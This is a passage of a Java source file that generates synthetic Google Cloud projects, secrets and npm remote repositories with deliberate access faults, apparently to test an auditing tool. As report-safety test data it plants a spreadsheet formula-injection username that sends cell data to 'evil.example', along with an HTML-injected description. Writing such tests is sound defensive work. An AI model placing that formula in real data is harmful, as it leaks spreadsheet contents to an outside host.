package dev.arcred.emulator.generate;

import static dev.arcred.emulator.generate.Binding.ACCESSOR;
import static dev.arcred.emulator.generate.Binding.METADATA_VIEWER;
import static dev.arcred.emulator.generate.Binding.SECRET_VIEWER;
import static dev.arcred.emulator.generate.Binding.TOKEN_READER;
import static dev.arcred.emulator.generate.Binding.UPSTREAM_TOKEN_READER;
import static dev.arcred.emulator.generate.Binding.VERSION_MANAGER;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.arcred.emulator.generate.Binding.Condition;
import dev.arcred.emulator.generate.Binding.Policy;
import dev.arcred.emulator.generate.Organization.SharedGroup;
import dev.arcred.emulator.generate.Upstream.GroupToken;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * Decides everything about one project (its policy, its secrets, its repositories and their faults) from the seed
 * and the project's index alone, so that projects can be planned one at a time and forgotten once written.
 *
 * <p>How the counts stay exact: a healthy npm remote pins the newest version (ENABLED) of a shared token, granted
 * to its project's service agent on the secret itself, with no expiry in sight and no public or broad grant
 * anywhere above it. A broken one differs by exactly one fault. Faults of the credentials (missing, incomplete,
 * malformed) use the shared tokens. The other faults come in {@linkplain Organization.SharedGroup groups} of about
 * ten repositories of one kind (nearby projects, mostly of one business unit): a group of a reference fault
 * (unknown secret or version, alias, superseded pin) references its unit's token badly, or the same missing
 * secret; a group of a fault of the secret or its access shares one faulty secret that nobody else references,
 * mostly in the central project, sometimes in its first repository's project. A broad grant (on the project
 * holding the secret or on its folder) would open every secret below it to the agents it names, so a project with
 * such a fault keeps all its other repositories' tokens in the central project, and the secrets of its other
 * shared faults too.
 *
 * <p>Locations: each project has a home location (the projects spread evenly over the regions); about one in ten
 * also keeps some npm remotes in a second one, so that project-locations holding npm remotes are about 1.1 per
 * project.
 */
final class ProjectPlanner {
  /** The chance that an npm remote whose upstream has a business-unit token uses it (about half of all). */
  private static final double CENTRAL_SHARE = 0.48;
  private static final double BY_NUMBER = 0.15;
  private static final double OTHER_REPOSITORIES = 0.2;
  /** The chance that a project with at least two npm remotes keeps some of them in a second location. */
  private static final double SECOND_LOCATION = 0.15;
  /** The chance that a shared faulty secret lives in its first repository's project rather than the central one. */
  private static final double SHARED_IN_PROJECT = 0.2;
  private static final String[] NOT_FOUND_SUFFIXES = {"legacy", "old", "2024", "deprecated"};
  private static final String FORMULA_USERNAME = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";

  private final Organization org;
  private final Instant now;
  private final long seed;
  private final List<String> regions;
  private final int[] groupNewest;

  record ProjectPlan(int project, List<Binding> policy, List<SecretPlan> secrets, List<RepoPlan> repositories) {}

  /** Where a BROAD group grants its agents a Secret Manager role: the project holding its secret, or its folder. */
  record BroadGrant(boolean onFolder, String role) {}

  ProjectPlanner(Organization org) {
    this.org = org;
    this.now = org.spec.now();
    this.seed = org.spec.seed();
    this.regions = org.spec.regions();
    int tokens = GroupToken.values().length;
    groupNewest = new int[org.groups() * tokens];
    for (int g = 0; g < org.groups(); g++) {
      for (GroupToken t : GroupToken.values()) {
        groupNewest[g * tokens + t.ordinal()] = groupSecret(t, g, false).newest();
      }
    }
  }

  // --- the organization, folders and the central project

  List<Binding> organizationPolicy() {
    return new Policy()
        .add("roles/resourcemanager.organizationAdmin", user("cto"))
        .add("roles/resourcemanager.organizationAdmin", group("gcp-org-admins"))
        .add("roles/owner", group("gcp-org-admins"))
        .add("roles/iam.securityReviewer", group("security-auditors"))
        .add("roles/viewer", group("security-auditors"))
        .add("roles/billing.user", group("finance"))
        .add("roles/browser", "domain:" + Organization.DOMAIN)
        .add(SECRET_VIEWER, group("secops"))
        .bindings();
  }

  List<Binding> folderPolicy(int folder, List<Binding> broadGrants) {
    Random r = Seeds.random(seed, Seeds.FOLDER_POLICY, folder);
    String name = org.folderName(folder);
    Policy policy = new Policy();
    if (r.nextDouble() < 0.7) {
      policy.add("roles/owner", group(name + "-leads"));
    }
    if (r.nextDouble() < 0.5) {
      policy.add("roles/resourcemanager.folderViewer", group("engineering"));
    }
    if (r.nextDouble() < 0.3) {
      policy.add("roles/editor", group(name + "-devs"));
    }
    if (r.nextDouble() < 0.2) {
      policy.add("roles/artifactregistry.reader", group(name + "-devs"));
    }
    broadGrants.forEach(b -> b.members().forEach(m -> policy.add(b.role(), m)));
    return policy.bindings();
  }

  List<Binding> centralProjectPolicy() {
    return new Policy()
        .add("roles/owner", group("platform-team"))
        .add("roles/secretmanager.admin", group("secops"))
        .add("roles/viewer", group("sre"))
        .add(VERSION_MANAGER, rotator())
        .bindings();
  }

  /** A business unit's token in the central project; with its policy (every agent of the unit) when asked. */
  SecretPlan groupSecret(GroupToken token, int g, boolean withPolicy) {
    Random r = Seeds.random(seed, Seeds.GROUP, (long) g * GroupToken.values().length + token.ordinal());
    SecretPlan s = new SecretPlan(Organization.CENTRAL, token.secretId(g), daysBefore(r, 500, 1200));
    s.labels.put("owner", "platform");
    s.labels.put("upstream", token.prefix.replace("-token", ""));
    s.labels.put("business-unit", "bu" + String.format("%03d", g));
    switch (token) {
      case NPMJS -> {
        // Rotated quarterly; the previous version stays enabled while repositories move over.
        s.userManaged = true;
        int k = 2 + r.nextInt(4);
        String[] states = new String[k];
        for (int i = 0; i < k - 2; i++) {
          states[i] = r.nextBoolean() ? "DESTROYED" : "DISABLED";
        }
        states[k - 2] = "ENABLED";
        states[k - 1] = "ENABLED";
        history(s, r, states);
        s.labels.put("rotation", "quarterly");
      }
      case GITHUB -> {
        s.userManaged = true;
        history(s, r, olderThenEnabled(1 + r.nextInt(3), "DISABLED"));
        if (r.nextBoolean()) {
          s.expires = daysAfter(r, 400, 1400);
        }
      }
      case ARTIFACTORY -> {
        int k = 1 + r.nextInt(3);
        history(s, r, olderThenEnabled(k, "ENABLED"));
        s.aliases.put("current", k);
      }
      case VERDACCIO, DOCKERHUB -> history(s, r, new String[] {"ENABLED"});
      case PYPI -> history(s, r, new String[] {"DISABLED"}); // broken on purpose: python remotes are not audited
      default -> throw new AssertionError(token);
    }
    if (withPolicy) {
      List<String> agents = new ArrayList<>(Organization.GROUP_SIZE);
      for (int p = org.groupFirst(g); p < org.groupEnd(g); p++) {
        agents.add(org.agent(p));
      }
      Policy policy = new Policy();
      switch (token) {
        case NPMJS -> policy.addAll(ACCESSOR, agents).add(VERSION_MANAGER, rotator());
        case GITHUB -> policy.addAll(ACCESSOR, agents).add(SECRET_VIEWER, group("platform-team"));
        case ARTIFACTORY -> policy.addAll(UPSTREAM_TOKEN_READER, agents);
        case VERDACCIO -> policy.addAll(TOKEN_READER, agents).add(METADATA_VIEWER, group("registry-admins"));
        default -> policy.addAll(ACCESSOR, agents);
      }
      s.policy = policy.bindings();
    }
    return s;
  }

  private int groupNewest(GroupToken token, int g) {
    return groupNewest[g * GroupToken.values().length + token.ordinal()];
  }

  boolean hasBroadFault(int p) {
    for (int i = org.repoStart(p), end = i + org.repoCount(p); i < end; i++) {
      if (org.fault(i) == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
        return true;
      }
    }
    return false;
  }

  // --- locations

  /** The project's home location: each run of {@code regions} projects takes every region once, in seeded order. */
  int home(int p) {
    int n = regions.size();
    int block = (p - 1) / n;
    Random r = Seeds.random(seed, Seeds.HOME, block);
    int[] order = new int[n];
    for (int i = 0; i < n; i++) {
      order[i] = i;
    }
    for (int i = n - 1; i > 0; i--) {
      int j = r.nextInt(i + 1);
      int t = order[i];
      order[i] = order[j];
      order[j] = t;
    }
    return order[(p - 1) % n];
  }

  /**
   * The location of each of project p's npm remotes: all at home, or, for about one project in ten (of those with
   * at least two), one to half of them in a second location.
   */
  int[] npmLocations(int p) {
    int count = org.repoCount(p);
    int home = home(p);
    int[] out = new int[count];
    Arrays.fill(out, home);
    Random r = Seeds.random(seed, Seeds.SECOND, p);
    if (regions.size() < 2 || count < 2 || r.nextDouble() >= SECOND_LOCATION) {
      return out;
    }
    int second = (home + 1 + r.nextInt(regions.size() - 1)) % regions.size();
    int away = 1 + r.nextInt(count / 2);
    for (int i = 0, left = away; i < count && left > 0; i++) { // selection sampling: `away` of them, at random
      if (r.nextInt(count - i) < left) {
        out[i] = second;
        left--;
      }
    }
    return out;
  }

  // --- shared faults

  /**
   * What the repositories of one shared group reference. For a reference fault: their unit's {@code token} (every
   * member uses the upstream of that token), or the {@code missing} secret in the central project. For a fault of
   * the secret or its access: {@code secret} (in the central project or in the project of the group's first
   * repository), pinned at {@code pin}; {@code variant} says how NO_ACCESS denies; {@code broad} where BROAD grants.
   */
  record SharedPlan(SharedGroup group, Upstream upstream, int host, GroupToken token, String missing,
      int missingVersion, SecretPlan secret, int pin, int variant, BroadGrant broad) {}

  /** NO_ACCESS: the members' agents hold Editor on their own projects, and nothing that reads on the secret. */
  private static final int EDITOR_ON_PROJECTS = 4;

  /** The plan of shared group {@code id}: the same every time it is asked (from the seed and the id alone). */
  SharedPlan shared(int id) {
    SharedGroup g = org.sharedGroup(id);
    Random r = Seeds.random(seed, Seeds.SHARED, id);
    FaultKind kind = g.kind();
    switch (kind) {
      case SECRET_NOT_FOUND, SECRET_VERSION_NOT_FOUND, SECRET_VERSION_FLOATING, SECRET_VERSION_SUPERSEDED -> {
        Upstream picked = Upstream.pick(r);
        GroupToken token = kind == FaultKind.SECRET_VERSION_SUPERSEDED || !picked.central()
            ? GroupToken.NPMJS : picked.groupToken;
        String missing = null;
        int missingVersion = 0;
        if (kind == FaultKind.SECRET_NOT_FOUND) { // a retired token of the platform team, deleted since
          missing = token.prefix + "-" + NOT_FOUND_SUFFIXES[r.nextInt(NOT_FOUND_SUFFIXES.length)];
          missingVersion = 1 + r.nextInt(3);
        }
        return new SharedPlan(g, Upstream.of(token), Organization.CENTRAL, token, missing, missingVersion, null, 0, 0,
            null);
      }
      default -> {
        List<Integer> projects = new ArrayList<>();
        for (int repo : g.repos()) {
          int p = org.projectOf(repo);
          if (!projects.contains(p)) {
            projects.add(p);
          }
        }
        int first = projects.get(0);
        Upstream up = Upstream.pick(r);
        BroadGrant broad = null;
        int host;
        if (kind == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
          // The grant on the host project or its folder opens it to the members' agents: never the central project.
          host = first;
          int folder = org.projectFolder(host);
          boolean folderAllowed = folder >= 0 && folder != org.projectFolder(Organization.CENTRAL);
          broad = new BroadGrant(r.nextBoolean() && folderAllowed, r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR);
        } else {
          // Not below a broad grant: a member of a project with a broad fault sees no secret outside the central one.
          boolean anyBroad = projects.stream().anyMatch(this::hasBroadFault);
          host = !anyBroad && r.nextDouble() < SHARED_IN_PROJECT ? first : Organization.CENTRAL;
        }
        return sharedSecret(g, r, up, host, projects, broad);
      }
    }
  }

  private SharedPlan sharedSecret(SharedGroup g, Random r, Upstream up, int host, List<Integer> projects,
      BroadGrant broad) {
    String firstId = org.projectId(projects.get(0));
    String unit = firstId.substring(0, firstId.indexOf('-'));
    String id = up.ownSecret + "-" + unit + "-" + String.format("%03d", g.id());
    SecretPlan s = new SecretPlan(host, id, daysBefore(r, 60, 700));
    s.labels.put("team", unit);
    s.labels.put("consumers", String.valueOf(g.repos().length));
    List<String> agents = new ArrayList<>(projects.size());
    projects.forEach(p -> agents.add(org.agent(p)));
    Policy access = new Policy().addAll(r.nextInt(5) == 0 ? TOKEN_READER : ACCESSOR, agents);
    int pin = 1;
    int variant = 0;
    switch (g.kind()) {
      case SECRET_VERSION_DISABLED -> {
        int v = r.nextInt(3);
        if (v == 0) { // revoked upstream, disabled, never replaced
          history(s, r, new String[] {"DISABLED"});
        } else if (v == 1) { // a botched rotation: the new version was disabled, the pins followed it
          history(s, r, new String[] {"ENABLED", "DISABLED"});
          pin = 2;
        } else { // rotated, but these repositories still pin the old, now disabled, version
          history(s, r, new String[] {"DISABLED", "ENABLED"});
        }
      }
      case SECRET_VERSION_DESTROYED -> history(s, r, r.nextBoolean()
          ? new String[] {"DESTROYED"} : new String[] {"DESTROYED", "ENABLED"});
      case SECRET_VERSION_DESTROY_SCHEDULED -> {
        // A leaked token: disabled, destruction delayed by the secret's 30-day TTL; a new version replaces it.
        int left = 1 + r.nextInt(29);
        Instant disabled = now.plus(Duration.ofDays(left - 30)).minusSeconds(r.nextInt(86_400));
        s.destroyTtl = "2592000s";
        s.version("DISABLED", between(r, s.created, disabled), null, disabled.plus(Duration.ofDays(30)));
        s.version("ENABLED", disabled.plusSeconds(300 + r.nextInt(3600)));
      }
      case SECRET_EXPIRING -> {
        // A token created with a TTL (a contractor's, a trial's): it expires within the warning window.
        history(s, r, r.nextBoolean() ? new String[] {"ENABLED"} : new String[] {"DISABLED", "ENABLED"});
        pin = s.newest();
        s.expires = now.plus(Duration.ofDays(1 + r.nextInt(27))).plusSeconds(r.nextInt(86_400));
        s.labels.put("ttl", "temporary");
      }
      case SECRET_PUBLIC -> {
        history(s, r, new String[] {"ENABLED"});
        int v = r.nextInt(7);
        if (v < 4) { // opened to every Google account while debugging a 403
          access.add(ACCESSOR, "allAuthenticatedUsers");
        } else if (v < 6) {
          access.add(ACCESSOR, "allUsers");
        } else {
          access.add(TOKEN_READER, "allAuthenticatedUsers");
        }
      }
      case SERVICE_AGENT_NO_ACCESS -> {
        // Granted to other projects' agents (copied from another secret), never to these repositories' agents.
        history(s, r, new String[] {"ENABLED"});
        access = new Policy();
        List<String> others = otherAgents(r, projects);
        variant = r.nextInt(6);
        if (variant == 0 && others.isEmpty()) {
          variant = 3;
        }
        switch (variant) {
          case 1 -> access.addAll(VERSION_MANAGER, agents); // can add and disable versions, not read them
          case 2 -> access.addAll(METADATA_VIEWER, agents); // a custom role without versions.access
          case 3 -> access.add(ACCESSOR, group(unit + "-devs")); // the developers, not the agents
          case EDITOR_ON_PROJECTS -> access.add(SECRET_VIEWER, group(unit + "-devs")); // Editor: see the builder
          case 5 -> access.addAll(SECRET_VIEWER, agents);
          default -> { } // only the other agents
        }
        if (variant == 0 || r.nextBoolean()) {
          access.addAll(ACCESSOR, others);
        }
      }
      case SERVICE_AGENT_CONDITIONAL_ACCESS -> {
        history(s, r, new String[] {"ENABLED"});
        Condition condition = switch (r.nextInt(3)) {
          case 0 -> new Condition("temporary-access", "Granted during a migration",
              "request.time < timestamp(\"" + daysAfter(r, 30, 400) + "\")");
          case 1 -> new Condition("npm-tokens-only", "Only this token",
              "resource.name.startsWith(\"projects/" + org.projectNumber(host) + "/secrets/" + id + "\")");
          default -> new Condition("business-hours", null,
              "request.time.getHours(\"Europe/Berlin\") >= 7 && request.time.getHours(\"Europe/Berlin\") < 20");
        };
        String role = r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR;
        access = new Policy();
        for (String agent : agents) {
          access.add(role, agent, condition);
        }
      }
      case SERVICE_AGENT_BROAD_ACCESS -> {
        // Readable only through the grant on the host project or its folder (broadBinding): no binding here.
        history(s, r, new String[] {"ENABLED"});
        access = new Policy();
        if (r.nextBoolean()) {
          access.add(SECRET_VIEWER, group(unit + "-devs"));
        }
      }
      default -> throw new AssertionError(g.kind());
    }
    if (host == Organization.CENTRAL && r.nextBoolean()) {
      access.add(VERSION_MANAGER, rotator());
    }
    s.policy = access.bindings();
    return new SharedPlan(g, up, host, null, null, 0, s, pin, variant, broad);
  }

  /** Two to five agents of the first project's business unit that are not the members' (fewer in a small unit). */
  private List<String> otherAgents(Random r, List<Integer> members) {
    int unit = org.group(members.get(0));
    int from = org.groupFirst(unit);
    int span = org.groupEnd(unit) - from;
    int want = 2 + r.nextInt(4);
    List<String> out = new ArrayList<>(want);
    for (int tries = 0; tries < 4 * want && out.size() < want; tries++) {
      int p = from + r.nextInt(span);
      String agent = org.agent(p);
      if (!members.contains(p) && !out.contains(agent)) {
        out.add(agent);
      }
    }
    return out;
  }

  /** The grant of a BROAD group, on the project holding its secret or on that project's folder: every member's agent. */
  Binding broadBinding(SharedPlan plan) {
    List<String> agents = new ArrayList<>();
    for (int repo : plan.group().repos()) {
      String agent = org.agent(org.projectOf(repo));
      if (!agents.contains(agent)) {
        agents.add(agent);
      }
    }
    return new Binding(plan.broad().role(), List.copyOf(agents), null);
  }

  // --- one project

  ProjectPlan plan(int p) {
    return new Builder(p).build();
  }

  private final class Builder {
    final int p;
    final String pid;
    final String unit;
    final Random r;
    final boolean broadProject;
    final Policy policy = new Policy();
    final Map<Upstream, SecretPlan> own = new EnumMap<>(Upstream.class);
    final List<SecretPlan> secrets = new ArrayList<>();
    final List<RepoPlan> repositories = new ArrayList<>();
    final Map<String, Set<String>> names = new HashMap<>();
    final Map<String, List<String>> npmByLocation = new LinkedHashMap<>();

    Builder(int p) {
      this.p = p;
      this.pid = org.projectId(p);
      this.unit = pid.substring(0, pid.indexOf('-'));
      this.r = Seeds.random(seed, Seeds.PLAN, p);
      this.broadProject = hasBroadFault(p);
    }

    ProjectPlan build() {
      basePolicy();
      int[] locations = npmLocations(p);
      int start = org.repoStart(p);
      for (int i = 0; i < locations.length; i++) {
        npmRemote(start + i, regions.get(locations[i]));
      }
      int npm = repositories.size();
      for (int i = 0; i < npm; i++) {
        if (r.nextDouble() < OTHER_REPOSITORIES) {
          otherRepository(repositories.get(i).location());
        }
      }
      List<SecretPlan> all = new ArrayList<>(own.values());
      all.addAll(secrets);
      return new ProjectPlan(p, policy.bindings(), all, repositories);
    }

    void basePolicy() {
      Random pr = Seeds.random(seed, Seeds.POLICY, p);
      String ci = "serviceAccount:ci-deployer@" + pid + ".iam.gserviceaccount.com";
      policy.add("roles/owner", user(unit + "-lead"));
      policy.add("roles/viewer", group(unit + "-devs"));
      if (pr.nextDouble() < 0.6) {
        policy.add("roles/artifactregistry.writer", ci);
      }
      if (pr.nextDouble() < 0.3) {
        policy.add("roles/editor", group(unit + "-devs"));
      }
      if (pr.nextDouble() < 0.1) {
        policy.add(VERSION_MANAGER, ci);
      }
      if (pr.nextDouble() < 0.1) {
        policy.add(SECRET_VIEWER, group(unit + "-devs"));
      }
      if (pr.nextDouble() < 0.03) {
        // Public packages: allUsers may read the repositories, which grants nothing on secrets.
        policy.add("roles/artifactregistry.reader", "allUsers");
      }
      if (pr.nextDouble() < 0.03) {
        // Editor does not hold secretmanager.versions.access: harmless for the agent, a trap for auditors.
        policy.add("roles/editor", org.agent(p));
      }
    }

    void npmRemote(int index, String location) {
      FaultKind fault = org.fault(index);
      int sharedId = org.sharedGroupOf(index);
      SharedPlan shared = sharedId < 0 ? null : shared(sharedId);
      Upstream up = Upstream.pick(r);
      boolean central;
      if (shared != null) {
        up = shared.upstream();
        central = shared.host() == Organization.CENTRAL;
      } else if (broadProject) {
        central = true;
      } else {
        central = up.central() && r.nextDouble() < CENTRAL_SHARE;
      }
      if (central && !up.central()) {
        up = Upstream.NPMJS;
      }
      String checked = null; // the secret an audit confirms for this repository (by project number)
      String id = uniqueName(location, up.names);
      String username = up.usernames[r.nextInt(up.usernames.length)];
      if (fault == null && r.nextDouble() < 0.003) {
        username = FORMULA_USERNAME; // report-safety: a value from the fleet that a spreadsheet would run
      }
      String reference = null;
      ObjectNode blank = null; // CREDENTIALS_MISSING written as an empty or blank credentials object
      if (fault == null) {
        reference = reference(target(up, central), null);
      } else {
        switch (fault) {
          case CREDENTIALS_MISSING -> {
            username = null;
            int v = r.nextInt(20);
            if (v == 0) {
              blank = JsonNodeFactory.instance.objectNode().put("username", "  ");
            } else if (v <= 2) {
              blank = JsonNodeFactory.instance.objectNode();
            }
          }
          case CREDENTIALS_INCOMPLETE -> {
            if (r.nextDouble() >= 0.6) { // the token set, the username forgotten; else the reverse
              reference = reference(target(up, central), null);
              username = null;
            }
          }
          case SECRET_REFERENCE_INVALID -> reference = malformed(target(up, central), location);
          case SECRET_NOT_FOUND -> {
            reference = "projects/" + projectRef(Organization.CENTRAL) + "/secrets/" + shared.missing()
                + "/versions/" + shared.missingVersion();
            checked = secretName(Organization.CENTRAL, shared.missing());
          }
          case SECRET_VERSION_NOT_FOUND -> {
            Target t = target(up, true);
            reference = reference(t, String.valueOf(t.newest + 1 + r.nextInt(6)));
            checked = secretName(t.project, t.id);
          }
          case SECRET_VERSION_FLOATING -> {
            Target t = target(up, true);
            reference = reference(t, t.currentAlias && r.nextBoolean() ? "current" : "latest");
            checked = secretName(t.project, t.id);
          }
          case SECRET_VERSION_SUPERSEDED -> {
            Target t = target(up, true); // the unit's npmjs token: its two newest versions are ENABLED
            reference = reference(t, String.valueOf(t.newest - 1));
            checked = secretName(t.project, t.id);
          }
          default -> {
            SecretPlan s = shared.secret();
            reference = "projects/" + projectRef(s.project) + "/secrets/" + s.id + "/versions/" + shared.pin();
            checked = secretName(s.project, s.id);
            if (index == shared.group().first()) { // the group's first repository's project holds what it needs
              if (s.project == p) {
                secrets.add(s);
              }
              if (fault == FaultKind.SERVICE_AGENT_BROAD_ACCESS && !shared.broad().onFolder()) {
                Binding grant = broadBinding(shared);
                policy.addAll(grant.role(), grant.members());
              }
            }
            if (fault == FaultKind.SERVICE_AGENT_NO_ACCESS && shared.variant() == EDITOR_ON_PROJECTS) {
              policy.add("roles/editor", org.agent(p)); // Editor on the project holds no versions.access
            }
          }
        }
      }
      ObjectNode credentials = blank;
      if (username != null || reference != null) {
        credentials = JsonNodeFactory.instance.objectNode();
        if (username != null) {
          credentials.put("username", username);
        }
        if (reference != null) {
          credentials.put("passwordSecretVersion", reference);
        }
      }
      ObjectNode config = JsonNodeFactory.instance.objectNode();
      config.put("description", up.description);
      up.source(config);
      if (credentials != null) {
        config.putObject("upstreamCredentials").set("usernamePasswordCredentials", credentials);
      }
      String description = up.description + " (" + location + ")";
      if (r.nextDouble() < 0.005) {
        description = "Mirror for <b>" + unit + "</b> builds, \"fast\" path"; // report-safety
      }
      repositories.add(repository(location, id, "NPM", "REMOTE_REPOSITORY", description, "remoteRepositoryConfig",
          config, true, fault, reference != null && central, checked));
      npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
    }

    String malformed(Target t, String location) {
      String secret = "projects/" + projectRef(t.project) + "/secrets/" + t.id;
      return switch (r.nextInt(6)) {
        case 0 -> secret + "/versions/0"; // meant as "latest"
        case 1 -> secret + "/versions/0" + t.newest; // leading zero
        case 2 -> "projects/" + projectRef(t.project) + "/locations/" + location + "/secrets/" + t.id + "/versions/"
            + t.newest; // the regional form
        case 3 -> t.id; // a bare secret ID
        case 4 -> secret; // no version
        default -> secret + "/versions/" + t.newest + "/payload"; // extra segments
      };
    }

    record Target(int project, String id, int newest, boolean currentAlias) {}

    /** The shared token a healthy repository of this upstream would use: its unit's or its project's. */
    Target target(Upstream up, boolean central) {
      if (central) {
        int g = org.group(p);
        return new Target(Organization.CENTRAL, up.groupToken.secretId(g), groupNewest(up.groupToken, g),
            up.groupToken == GroupToken.ARTIFACTORY);
      }
      SecretPlan s = own.computeIfAbsent(up, this::ownSecret);
      return new Target(p, s.id, s.newest(), false);
    }

    SecretPlan ownSecret(Upstream up) {
      SecretPlan s = new SecretPlan(p, up.ownSecret, daysBefore(r, 90, 1000));
      int k = 1 + r.nextInt(4);
      String[] states = new String[k];
      for (int i = 0; i < k - 1; i++) {
        double x = r.nextDouble();
        states[i] = x < 0.3 ? "DESTROYED" : x < 0.7 ? "DISABLED" : "ENABLED";
      }
      states[k - 1] = "ENABLED";
      history(s, r, states);
      s.labels.put("team", unit);
      if (r.nextDouble() < 0.2) {
        s.expires = daysAfter(r, 400, 1500);
      }
      Policy access = new Policy().add(r.nextDouble() < 0.2 ? TOKEN_READER : ACCESSOR, org.agent(p));
      if (r.nextDouble() < 0.3) {
        access.add(SECRET_VIEWER, group(unit + "-devs"));
      }
      if (r.nextDouble() < 0.2) {
        access.add(VERSION_MANAGER, "serviceAccount:ci-deployer@" + pid + ".iam.gserviceaccount.com");
      }
      s.policy = access.bindings();
      return s;
    }

    String secretName(int project, String secret) {
      return "projects/" + org.projectNumber(project) + "/secrets/" + secret;
    }

    /** A pinned reference to the newest version, or to {@code version} when given. */
    String reference(Target t, String version) {
      return "projects/" + projectRef(t.project) + "/secrets/" + t.id + "/versions/"
          + (version == null ? String.valueOf(t.newest) : version);
    }

    /** People write project IDs; some paste the number Secret Manager shows. */
    String projectRef(int project) {
      return r.nextDouble() < BY_NUMBER ? org.projectNumber(project) : org.projectId(project);
    }

    void otherRepository(String location) {
      int kind = r.nextInt(100);
      JsonNodeFactory f = JsonNodeFactory.instance;
      if (kind < 25) {
        String id = uniqueName(location, new String[] {"npm-internal", "npm-packages", "internal-packages"});
        repositories.add(repository(location, id, "NPM", "STANDARD_REPOSITORY", "Packages " + unit + " publishes",
            null, null, false, null, false, null));
        npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
      } else if (kind < 40) {
        String id = uniqueName(location, new String[] {"npm", "npm-all", "npm-virtual"});
        ObjectNode config = f.objectNode();
        ArrayNode upstreams = config.putArray("upstreamPolicies");
        List<String> members = npmByLocation.getOrDefault(location, List.of());
        for (int i = 0; i < Math.min(4, members.size()); i++) {
          upstreams.addObject().put("id", members.get(i))
              .put("repository", "projects/" + pid + "/locations/" + location + "/repositories/" + members.get(i))
              .put("priority", 100 - 10 * i);
        }
        repositories.add(repository(location, id, "NPM", "VIRTUAL_REPOSITORY", "One npm endpoint for " + unit,
            "virtualRepositoryConfig", config, false, null, false, null));
      } else if (kind < 60) {
        ObjectNode config = f.objectNode().put("description", "Docker Hub");
        config.putObject("dockerRepository").put("publicRepository", "DOCKER_HUB");
        int v = r.nextInt(10);
        if (v < 5) {
          int g = org.group(p);
          credentials(config, "megacorpbuild", "projects/" + projectRef(Organization.CENTRAL) + "/secrets/"
              + GroupToken.DOCKERHUB.secretId(g) + "/versions/" + groupNewest(GroupToken.DOCKERHUB, g));
        } else if (v < 7) { // broken on purpose: a secret that does not exist (surfaces only with --formats docker)
          credentials(config, "megacorpbuild", "projects/" + pid + "/secrets/dockerhub-token/versions/1");
        }
        repositories.add(repository(location, uniqueName(location, new String[] {"dockerhub", "docker-hub-mirror"}),
            "DOCKER", "REMOTE_REPOSITORY", "Docker Hub mirror", "remoteRepositoryConfig", config, false, null, false, null));
      } else if (kind < 75) {
        ObjectNode config = f.objectNode().put("description", "Maven Central");
        config.putObject("mavenRepository").put("publicRepository", "MAVEN_CENTRAL");
        repositories.add(repository(location, uniqueName(location, new String[] {"maven-central", "maven-remote"}),
            "MAVEN", "REMOTE_REPOSITORY", "Maven Central mirror", "remoteRepositoryConfig", config, false, null, false, null));
      } else if (kind < 90) {
        ObjectNode config = f.objectNode().put("description", "PyPI");
        config.putObject("pythonRepository").put("publicRepository", "PYPI");
        if (r.nextBoolean()) { // pinned to the unit's PyPI token, whose only version is DISABLED
          credentials(config, "__token__", "projects/" + projectRef(Organization.CENTRAL) + "/secrets/"
              + GroupToken.PYPI.secretId(org.group(p)) + "/versions/1");
        }
        repositories.add(repository(location, uniqueName(location, new String[] {"pypi", "pypi-proxy"}),
            "PYTHON", "REMOTE_REPOSITORY", "PyPI mirror", "remoteRepositoryConfig", config, false, null, false, null));
      } else {
        repositories.add(repository(location, uniqueName(location, new String[] {"images", "docker-images", "ci-images"}),
            "DOCKER", "STANDARD_REPOSITORY", "Container images of " + unit, null, null, false, null, false, null));
      }
    }

    void credentials(ObjectNode config, String username, String reference) {
      config.putObject("upstreamCredentials").putObject("usernamePasswordCredentials")
          .put("username", username).put("passwordSecretVersion", reference);
    }

    RepoPlan repository(String location, String id, String format, String mode, String description, String configKey,
        ObjectNode config, boolean audited, FaultKind fault, boolean centralSecret, String checkedSecret) {
      Instant created = daysBefore(r, 20, 900);
      Instant updated = between(r, created, now.minus(Duration.ofHours(1)));
      Map<String, String> labels = new LinkedHashMap<>();
      labels.put("team", unit);
      labels.put("env", org.env(p));
      labels.put("managed-by", r.nextDouble() < 0.8 ? "terraform" : "console");
      long size = 1_048_576L * (1 + r.nextInt(mode.equals("STANDARD_REPOSITORY") ? 20_000 : 900));
      return new RepoPlan(location, id, format, mode, description, labels, created, updated, size, configKey, config,
          audited, fault, centralSecret, checkedSecret);
    }

    /** A repository ID not yet used in that location of this project. */
    String uniqueName(String location, String[] bases) {
      Set<String> used = names.computeIfAbsent(location, l -> new HashSet<>());
      int first = r.nextInt(bases.length);
      for (int n = 1; ; n++) {
        for (int i = 0; i < bases.length; i++) {
          String candidate = bases[(first + i) % bases.length] + (n == 1 ? "" : "-" + n);
          if (used.add(candidate)) {
            return candidate;
          }
        }
      }
    }
  }

  // --- helpers

  /** Versions 1..n in the given states (oldest first), created in order between the secret's creation and now. */
  private void history(SecretPlan s, Random r, String[] states) {
    Instant last = now.minus(Duration.ofDays(2));
    long span = Math.max(1, last.getEpochSecond() - s.created.getEpochSecond());
    Instant[] created = new Instant[states.length];
    for (int i = 0; i < states.length; i++) {
      double at = (i + 0.5 * r.nextDouble()) / states.length;
      created[i] = s.created.plusSeconds((long) (span * at));
    }
    for (int i = 0; i < states.length; i++) {
      Instant destroyed = null;
      if (states[i].equals("DESTROYED")) {
        Instant after = i + 1 < states.length ? created[i + 1] : created[i];
        destroyed = between(r, after, now.minus(Duration.ofDays(1)));
      }
      s.version(states[i], created[i], destroyed, null);
    }
  }

  private static String[] olderThenEnabled(int k, String older) {
    String[] states = new String[k];
    Arrays.fill(states, older);
    states[k - 1] = "ENABLED";
    return states;
  }

  private Instant daysBefore(Random r, int min, int max) {
    return now.minus(Duration.ofDays(min + r.nextInt(max - min + 1))).minusSeconds(r.nextInt(86_400));
  }

